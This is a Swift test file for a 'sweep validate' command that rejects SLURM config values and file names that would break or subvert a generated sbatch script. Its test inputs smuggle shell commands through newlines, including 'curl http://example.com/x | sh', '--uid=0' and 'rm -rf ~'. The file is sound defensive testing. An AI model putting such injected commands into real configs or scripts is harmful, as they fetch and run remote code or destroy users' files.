// `sweep validate` checks the whole grid file, its `slurm` block and its file name included, so nothing
// that would break or subvert the sbatch script is ever reported as valid.
import Testing
import Foundation
import TestSupport

@Suite struct ValidateCommandTests {
    static let body = #"{"fixed": {"dataset": "blobs", "model": "logreg", "optimizer": "sgd", "lr": 0.1, "epochs": 1}"#

    @Test(arguments: [
        (#""partitoin": "long""#, #"unknown key "partitoin" in slurm; did you mean "partition"?"#),
        (#""time": "forever""#, #"slurm.time "forever" is not a SLURM time"#),
        (#""partition": "long\ncurl http://example.com/x | sh""#, #"slurm.partition "long\u{a}curl"#),
        (#""partition": "long --uid=0""#, "slurm.partition"),
    ])
    func aBadSlurmBlockIsBadInputWithItsPlace(_ member: String, _ message: String) throws {
        let folder = try TemporaryFolder("validate")
        let path = try folder.write("g.json", Self.body + #", "name": "g", "slurm": {\#(member)}}"#)
        let result = try runSweep(["validate", path])
        #expect(result.status == 2)
        #expect(result.stderr.contains(path + ":1:"), "\(result.stderr)")
        #expect(result.stderr.contains(message), "\(result.stderr)")
    }

    @Test func aFileNameThatCannotNameTheSweepIsBadInput() throws {
        let folder = try TemporaryFolder("validate")
        let path = try folder.write("g\nrm -rf ~.json", Self.body + "}")
        let result = try runSweep(["validate", path])
        #expect(result.status == 2)
        #expect(result.stderr.contains(#"the file name "g\u{a}rm -rf ~" cannot name the sweep"#), "\(result.stderr)")
        let named = try folder.write("h\nrm -rf ~.json", Self.body + #", "name": "h"}"#)
        #expect(try runSweep(["validate", named]).status == 0)
    }
}
